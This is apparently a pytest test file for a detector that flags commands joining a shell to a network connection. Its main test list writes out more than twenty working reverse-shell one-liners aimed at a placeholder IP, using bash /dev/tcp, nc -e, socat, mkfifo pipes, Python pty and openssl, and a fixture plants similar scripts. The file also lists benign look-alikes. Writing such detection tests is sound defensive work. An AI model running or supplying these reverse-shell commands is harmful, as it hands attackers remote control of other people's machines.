"""Shells that are opened to elsewhere, by what is joined with what."""

import pytest

from tallystick.policy.risks.reverse_shell_net import RISKS, risks
from tests.policy.risks.readings import FOLDER, found

FOUND = {
    "reverse-shell": (
        "bash -i >& /dev/tcp/1.2.3.4/99 0>&1",
        "websocat ws://1.2.3.4:80 exec:sh",
        "sh 0</dev/tcp/1.2.3.4/99 1>&0",
        "exec 3<>/dev/tcp/1.2.3.4/99; sh <&3 >&3",
        'exec 5<>/dev/udp/1.2.3.4/99; while read l <&5; do eval "$l" >&5; done',
        "exec 5<>/dev/tcp/1.2.3.4/99; cat <&5 | while read l; do $l >&5; done",
        "nc -e /bin/sh 1.2.3.4 99",
        "GIT_SSH_COMMAND='nc -e sh 1.2.3.4 99' git fetch",
        "nc 1.2.3.4 99 -e sh",
        "ncat -lp 99 --sh-exec 'bash -i'",
        "nc -lp 99 -c 'python3 -i'",
        'nc -e "$X" 1.2.3.4 99',
        "bash -i | nc 1.2.3.4 99",
        "mkfifo f; sh -i <f 2>&1 | tee x | nc 1.2.3.4 99 >f",
        "socat TCP:1.2.3.4:99 EXEC:'bash -li',pty,stderr",
        "socat TCP-LISTEN:99,fork SYSTEM:sh",
        "zsh -c 'ztcp 1.2.3.4 99; zsh <&$REPLY'",
        "xterm -display 1.2.3.4:1",
        "sh -i 2>&1 | openssl s_client -connect 1.2.3.4:99",
        "sudo nc -e sh 1.2.3.4 99",
        "nc.exe -e cmd.exe 1.2.3.4 99",
        'python3 -c \'import socket,os,pty; s=socket.socket();s.connect(("h",9));os.dup2(s.fileno(),0);pty.spawn("sh")\'',
    ),
    "network-program": ("socat TCP-LISTEN:99,fork EXEC:cat", "ncat -lk 99 -c 'cat a'", "nc -e /bin/cat 1.2.3.4 99"),
}
NOTHING = (
    "nc -z localhost 99",
    "nc -l 99 > a",
    "echo a | nc localhost 99",
    "nc -lk 99",
    "socat - TCP:localhost:99",
    "socat TCP-LISTEN:99,fork TCP:localhost:98",
    "(echo > /dev/tcp/localhost/99) 2>/dev/null",
    "timeout 1 bash -c '</dev/tcp/localhost/99'",
    'while ! (echo > /dev/tcp/db/99); do sleep 1; done; exec "$@"',
    "exec 3<>/dev/tcp/localhost/99; echo a >&3; cat <&3",
    "bash a.sh | nc localhost 99",
    "bash -c 'echo a' | nc localhost 99",
    "bash -i",
    "docker exec -it a bash",
    "xterm -display :0",
    "xterm -display localhost:10",
    "sh a.sh < /dev/null",
    "bash --version | nc localhost 99",
    "ssh h bash",
    "telnet localhost 25",
    "openssl s_client -connect localhost:99 </dev/null",
    "echo 'bash -i >& /dev/tcp/1.2.3.4/99 0>&1' > a.md",
    "curl localhost | cat",
)


@pytest.mark.parametrize(("name", "command"), [(name, each) for name, commands in FOUND.items() for each in commands])
def test_a_shell_that_is_joined_with_a_connection_is_found(name: str, command: str) -> None:
    assert name in found(risks, command)


@pytest.mark.parametrize("command", NOTHING)
def test_a_connection_or_a_shell_alone_is_work(command: str) -> None:
    assert found(risks, command) == set()


def test_each_risk_has_an_example() -> None:
    assert FOUND.keys() == RISKS.keys()


def test_a_script_that_is_run_is_looked_into() -> None:
    files = {
        f"{FOLDER}/a.sh": "#!/bin/bash\nbash -i >& /dev/tcp/1.2.3.4/99 0>&1\n",
        f"{FOLDER}/a.py": "import socket, os, pty\ns = socket.socket()\ns.connect(('1.2.3.4', 9))\n"
        "os.dup2(s.fileno(), 0)\npty.spawn('sh')\n",
    }
    assert found(risks, "./a.sh", files) == {"reverse-shell"}
    assert found(risks, "python3 a.py", files) == {"reverse-shell"}
    assert found(risks, "cat a.sh a.py", files) == set()
